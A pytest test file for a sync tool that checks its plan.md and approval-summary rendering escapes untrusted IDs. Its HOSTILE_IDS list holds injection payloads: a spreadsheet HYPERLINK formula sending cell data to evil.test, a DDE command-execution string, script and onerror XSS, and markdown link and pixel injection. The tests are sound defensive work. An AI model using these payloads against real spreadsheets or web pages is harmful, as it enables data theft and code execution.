"""Values from outside the sync are shown as text in ``plan.md`` and the approval request."""

from __future__ import annotations

import re

import pytest

from genesys_sync.dag_support import held_summary
from genesys_sync.markup import md_code, md_text
from genesys_sync.runs import PlanDocument, Run
from genesys_sync.stages.plan import plan_markdown

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click me](http://evil.test)",
    "![x](http://evil.test/pixel.png)",
    "`code` **bold** _it_ ~~gone~~",
    "E1 | injected | cell",
    "line\nbreak\r\n# heading",
    "bidi\u202eoverride\u2066isolate\x00nul\x85c1",
    "&lt;already&gt; &amp;",
]


def rendered_markup(text: str) -> list[str]:
    """What a Markdown/HTML renderer would treat as markup in ``text`` (a strict over-estimate:
    any of these unescaped counts)."""
    found = []
    if re.search(r"<[A-Za-z/!]", text):
        found.append("html tag")
    if re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", text):
        found.append("link")
    if re.search(r"(?<!\\)`", text):
        found.append("code span")
    if re.search(r"(?<!\\)\|", text):
        found.append("table cell")
    if re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", text):
        found.append("control or bidi character")
    if re.search(r"(?<![\\&])&(?!(amp|lt|gt|quot);)", text):
        found.append("raw ampersand")
    return found


@pytest.mark.parametrize("value", HOSTILE_IDS)
def test_md_text_leaves_no_markup(value) -> None:
    text = md_text(value)

    assert rendered_markup(text) == []
    assert not text.startswith(("=", "+", "-", "@"))


def test_md_text_keeps_ordinary_ids_readable() -> None:
    assert md_text("E1001") == "E1001"
    assert md_text("ana.perez-2") == "ana.perez-2"
    assert md_text("=1+2") == "'=1+2"
    assert md_text("<b>") == "&lt;b&gt;"
    assert md_text("[x](y)") == "\\[x\\]\\(y\\)"


def test_md_code_fences_backticks() -> None:
    assert md_code("/runs/x/plan.md") == "`/runs/x/plan.md`"
    assert md_code("a`b") == "``a`b``"
    assert md_code("`a") == "`` `a ``"


def plan_doc(ids: list[str]) -> PlanDocument:
    return PlanDocument(
        run_id="manual__<b>run</b>",
        dry_run=True,
        dry_run_reason="param dry_run [x](http://evil.test)",
        counts={"create": len(ids), "deactivate": len(ids)},
        removal_threshold=10,
        managed_users=40,
        changes=[{"employee_id": i, "kind": "create", "changed": ["title"]} for i in ids]
        + [
            {"employee_id": i, "kind": "deactivate", "held": True, "reason": f"<i>{i}</i>"}
            for i in ids
        ],
    )


def test_plan_markdown_escapes_every_value() -> None:
    text = plan_markdown(plan_doc(HOSTILE_IDS))

    lines = text.splitlines()
    for line in lines:
        if line.startswith("|"):  # the counts table: two cells, each without markup
            cells = re.split(r"(?<!\\)\|", line)[1:-1]
            assert len(cells) == 2 and all(rendered_markup(c) == [] for c in cells), line
        else:
            assert rendered_markup(line) == [], line
    assert "<script>" not in text and "<img" not in text and "<b>" not in text
    assert "](http" not in text.replace("\\](", "")
    assert "\u202e" not in text and "\x00" not in text
    items = [line for line in lines if line.startswith("- ")]
    assert len(items) == 2 * len(HOSTILE_IDS)  # a line break in an id made no extra line
    for item in items:  # no value starts with a formula character
        employee_id, _, detail = item[2:].partition(": ")
        assert employee_id[0] not in "=+-@" and detail[:1] not in ("=", "+", "-", "@"), item


def test_held_summary_escapes_every_value(monkeypatch, tmp_path) -> None:
    monkeypatch.setenv("GENESYS_SYNC_HOME", str(tmp_path / "home"))
    run_id = "manual__2026-11-27"
    Run(run_id).save(plan_doc(HOSTILE_IDS))

    text = held_summary(run_id)

    body = [line for line in text.splitlines() if line.startswith("- ")]
    assert len(body) == len(HOSTILE_IDS)
    for line in body:
        assert rendered_markup(line) == [], line
    assert "<script>" not in text and "](http" not in text.replace("\\](", "")
    assert f"`{Run(run_id).root / 'plan.md'}`" in text
